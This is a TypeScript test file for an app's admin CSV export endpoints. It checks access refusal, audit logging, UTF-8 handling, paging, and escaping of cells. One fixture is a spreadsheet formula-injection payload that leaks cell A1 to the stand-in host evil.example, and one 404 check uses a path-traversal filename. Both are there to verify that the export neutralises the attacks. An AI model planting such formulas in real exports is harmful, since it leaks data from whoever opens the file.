/**
 * GET /{key}/export/{volunteers|seniors|applications}.csv on the local stack:
 * refused without the admin (no key, a wrong key, a member's token in place of the session),
 * recorded in the audit log with who downloaded it, and each file, downloaded and parsed back by a CSV parser, starts with the UTF-8 byte order
 * mark, keeps a Devanagari name as it was, makes a formula name text, and holds one row per
 * stored document with its fields, across more documents than one page of the reading.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deleteApp, getApps } from 'firebase-admin/app';
import { ADMIN_SESSION_KEY, APPLICATION_STATUS, COLLECTIONS, LINK_STATUS } from '@gh/common/constants';
import type { ApplicationDoc, SeniorDoc, VolunteerDoc } from '@gh/common/documents';
import { SERVER_MESSAGES } from '@gh/common/messages';
import { EXPORT_KINDS, type ExportKind } from '@gh/common/api-routes';
import { seniorRegistrationSchema, volunteerRegistrationSchema } from '@gh/common/schemas';
import { adminKey, apiUrl, fetchFrom, newClientAddress, uniqueId } from '@gh/testkit/stack';
import { adminSessionToken } from '@gh/testkit/applicant';
import { parseCsv } from '@gh/testkit/csv';
import { addApplication, addPerson, bearer, db, newEmail, personDoc, seniorForm, volunteerForm } from '@gh/testkit/identity';
import { tokenFor } from '@gh/testkit/members';
import { EXPORT_PAGE_SIZE } from '../src/services/export/export.ts';
import { newSenior, newVolunteer } from '../src/services/people/people.ts';

const HINDI_NAME = 'कमला देवी शर्मा';
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

async function download(kind: ExportKind | string, key = adminKey, headers: Record<string, string> = {}) {
  const response = await fetchFrom(`${apiUrl}/${encodeURIComponent(key)}/export/${kind}`, {
    headers: { ...newClientAddress(), ...headers },
  });
  const bytes = new Uint8Array(await response.arrayBuffer());
  return { status: response.status, headers: response.headers, bytes, text: Buffer.from(bytes).toString('utf8') };
}

async function exported(kind: ExportKind, key = adminKey, headers: Record<string, string> = {}) {
  const answer = await download(`${kind}.csv`, key, headers);
  expect(answer.status, answer.text).toBe(200);
  return { ...answer, csv: parseCsv(answer.bytes) };
}

const COLLECTION_OF: Record<ExportKind, string> = {
  volunteers: COLLECTIONS.volunteers,
  seniors: COLLECTIONS.seniors,
  applications: COLLECTIONS.applications,
};
const storedEmails = async (kind: ExportKind) => (await db().collection(COLLECTION_OF[kind]).get()).docs.map((doc) => doc.id).sort();

const run = uniqueId('export');
const hindiSenior = `${run}-hindi@example.com`;
const formulaVolunteer = `${run}-formula@example.com`;
const hindiApplicant = `${run}-applicant@example.com`;
const pagedSeniors = Array.from({ length: EXPORT_PAGE_SIZE + 17 }, (_, i) => `${run}-page-${String(i).padStart(4, '0')}@example.com`);
let volunteer: VolunteerDoc;
let senior: SeniorDoc;
let application: ApplicationDoc;

beforeAll(async () => {
  const now = Date.UTC(2026, 2, 14, 10, 15);
  senior = newSenior(seniorRegistrationSchema.parse({ ...seniorForm(hindiSenior), name: HINDI_NAME, city: 'पुणे' }), now);
  volunteer = {
    ...newVolunteer(
      volunteerRegistrationSchema.parse({ ...volunteerForm(formulaVolunteer), name: 'Formula Person' }),
      await addApplication(formulaVolunteer),
      now,
    ),
    name: FORMULA_NAME,
    hobbies: '+91 phone-like hobby',
    senior: {
      email: hindiSenior,
      name: HINDI_NAME,
      status: LINK_STATUS.assigned,
      reqTime: now,
      task: 'Reading, "aloud"\nthen tea',
      date: '2026-03-20',
      startTime: '10:00',
      endTime: '11:30',
      city: 'Pune',
      assTime: now + 60_000,
    },
  };
  application = {
    ...(await addApplication(hindiApplicant, APPLICATION_STATUS.rejected)),
    fullName: 'मीरा अय्यर',
    motivation: '@mention, "quoted"\nand a second line',
    decidedAt: now,
    submittedAt: now - 3_600_000,
  };
  await Promise.all([
    personDoc('senior', hindiSenior).set(senior),
    personDoc('volunteer', formulaVolunteer).set(volunteer),
    db().collection(COLLECTIONS.applications).doc(hindiApplicant).set(application),
  ]);
  const batch = db().batch();
  for (const email of pagedSeniors)
    batch.set(personDoc('senior', email), newSenior(seniorRegistrationSchema.parse(seniorForm(email)), now));
  await batch.commit();
});

afterAll(async () => {
  // The paging seniors would only weigh on later files; the three people stay, like other tests'.
  const batch = db().batch();
  for (const email of pagedSeniors) batch.delete(personDoc('senior', email));
  await batch.commit();
  await Promise.all(getApps().map((app) => deleteApp(app)));
});

const refused = { status: 401 };

describe('who may export', () => {
  it.each(EXPORT_KINDS)('refuses %s without a key, with a wrong key, and with the session key but no admin', async (kind) => {
    const file = `${kind}.csv`;
    for (const path of [`/export/${file}`, `//export/${file}`]) {
      const response = await fetchFrom(`${apiUrl}${path}`, { headers: newClientAddress() });
      expect({ status: response.status, json: await response.json() }).toEqual({
        status: 401,
        json: { message: SERVER_MESSAGES.invalidAdminKey, code: 'invalidAdminKey' },
      });
    }
    expect(await download(file, 'wrong-key')).toMatchObject(refused);
    expect(await download(file, `${adminKey}x`)).toMatchObject(refused);
    expect(await download(file, ADMIN_SESSION_KEY)).toMatchObject(refused);
    expect(await download(file, ADMIN_SESSION_KEY, { authorization: 'Bearer not-a-token' })).toMatchObject(refused);
    const member = await addPerson('volunteer');
    const answer = await download(file, ADMIN_SESSION_KEY, bearer(await tokenFor(member, 'volunteer')));
    expect(answer).toMatchObject(refused);
    expect(answer.text).not.toContain(hindiSenior);
  });

  it('records in the audit log who downloaded which file, and nothing for a refused one', async () => {
    const token = await adminSessionToken();
    const claims = JSON.parse(Buffer.from(token.split('.')[1]!, 'base64url').toString()) as { user_id: string; adminSessionId: string };
    const session = `${claims.user_id}/${claims.adminSessionId}`;
    await exported('seniors', ADMIN_SESSION_KEY, bearer(token));
    expect(await download('volunteers.csv', ADMIN_SESSION_KEY, { authorization: 'Bearer not-a-token' })).toMatchObject(refused);
    expect((await download('people.csv', ADMIN_SESSION_KEY, bearer(token))).status).toBe(404);
    const entries = await db().collection(COLLECTIONS.audit).where('session', '==', session).get();
    expect(entries.docs.map((entry) => entry.data())).toEqual([
      { at: expect.any(Number), action: 'export', email: '', type: 'senior', session, details: { kind: 'seniors' } },
    ]);
  });

  it('answers 404 for a file it does not make', async () => {
    for (const file of ['people.csv', 'volunteers', 'volunteers.json', 'VOLUNTEERS.CSV', 'volunteers.csv.csv', '..%2Fvolunteers.csv']) {
      expect((await download(file)).status, file).toBe(404);
    }
  });
});

describe('the files', () => {
  it.each(EXPORT_KINDS)('%s: a UTF-8 CSV with a byte order mark, sent as an attachment, not cached', async (kind) => {
    const { headers, bytes, csv } = await exported(kind);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toMatch(
      new RegExp(`^attachment; filename="golden-hearts-${kind}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`),
    );
    expect(headers.get('cache-control')).toBe('no-store');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.bom).toBe(true);
    expect(csv.header[0]).toBe('Email');
  });

  it.each(EXPORT_KINDS)('%s: one row per stored document, in e-mail order, with the admin session as with the key', async (kind) => {
    const byKey = await exported(kind);
    const emails = byKey.csv.rows.map((row) => row.Email);
    expect(emails).toEqual(await storedEmails(kind));
    const bySession = await exported(kind, ADMIN_SESSION_KEY, bearer(await adminSessionToken()));
    expect(bySession.text).toBe(byKey.text);
  });

  it('seniors: every field of a Devanagari-named senior, intact', async () => {
    const { csv } = await exported('seniors');
    expect(csv.rows.find((row) => row.Email === hindiSenior)).toEqual({
      Email: hindiSenior,
      Name: HINDI_NAME,
      Phone: "'+91 20 2612 3456",
      'Date of birth': '1942-09-30',
      Address: '4 Shanti Niwas, Model Colony',
      City: 'पुणे',
      State: 'Maharashtra',
      'PIN code': '411004',
      'Emergency contact': 'Anil Rao',
      'Emergency contact phone': "'+91 98220 33333",
      'Emergency contact relation': 'Son',
      'Emergency contact e-mail': '',
      Interests: 'Reading, Music',
      Services: 'Companionship',
      'Special needs': 'Uses a walking stick.',
      'Trial ends': '2026-04-13 15:45',
      'Link status': '',
      'Linked with': '',
      'Linked email': '',
      Requested: '',
      Task: '',
      'Visit date': '',
      'Start time': '',
      'End time': '',
      Assigned: '',
      Registered: '2026-03-14 15:45',
    });
  });

  it('volunteers: a formula name and phone-like cells become text; quotes, commas and line breaks survive', async () => {
    const { csv, text } = await exported('volunteers');
    const row = csv.rows.find((one) => one.Email === formulaVolunteer);
    expect(row).toEqual({
      Email: formulaVolunteer,
      Name: `'${FORMULA_NAME}`,
      Phone: "'+91 98220 11111",
      'Date of birth': '1996-04-12',
      Address: '12 Lane 5, Koregaon Park',
      City: 'Pune',
      State: 'Maharashtra',
      'PIN code': '411001',
      'Emergency contact': 'Anil Rao',
      'Emergency contact phone': "'+91 98220 33333",
      'Emergency contact relation': 'Son',
      Skills: 'Reading, Music',
      Availability: 'Morning (9AM-12PM)',
      Languages: 'English, Marathi',
      Experience: 'Two years at a care home.',
      Hobbies: "'+91 phone-like hobby",
      Certification: '',
      CV: 'cv.pdf',
      'Link status': 'Assigned',
      'Linked with': HINDI_NAME,
      'Linked email': hindiSenior,
      Requested: '2026-03-14 15:45',
      Task: 'Reading, "aloud"\nthen tea',
      'Visit date': '2026-03-20',
      'Start time': '10:00',
      'End time': '11:30',
      Assigned: '2026-03-14 15:46',
      Registered: '2026-03-14 15:45',
    });
    // No cell of the file starts a formula.
    for (const value of csv.rows.flatMap((one) => Object.values(one))) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
  });

  it('applications: the answers, status and times of an application', async () => {
    const { csv } = await exported('applications');
    expect(csv.rows.find((row) => row.Email === hindiApplicant)).toEqual({
      Email: hindiApplicant,
      'Full name': 'मीरा अय्यर',
      Contact: "'+91 98220 11111",
      Status: 'Rejected',
      Submitted: '2026-03-14 14:45',
      Decided: '2026-03-14 15:45',
      Languages: 'English, Marathi',
      Availability: 'Mornings',
      'Why they would like to volunteer': '\'@mention, "quoted"\nand a second line',
      'What companionship means to them': 'c',
      'What excites them about this work': 'e',
      'How they would help a lonely senior': 'h',
      'Previous experience': '',
      Resume: 'cv.pdf',
    });
  });

  it(`seniors: reads across pages (${EXPORT_PAGE_SIZE} documents each) without a gap or a repeat`, async () => {
    const { csv } = await exported('seniors');
    const ours = csv.rows.map((row) => row.Email).filter((email) => email?.startsWith(`${run}-page-`));
    expect(ours).toEqual(pagedSeniors);
    expect(csv.rows.length).toBeGreaterThan(EXPORT_PAGE_SIZE);
    expect(new Set(csv.rows.map((row) => row.Email)).size).toBe(csv.rows.length);
  });

  it('a new person is in the next file', async () => {
    const email = await addPerson('senior', newEmail('late'));
    expect((await exported('seniors')).csv.rows.map((row) => row.Email)).toContain(email);
  });
});
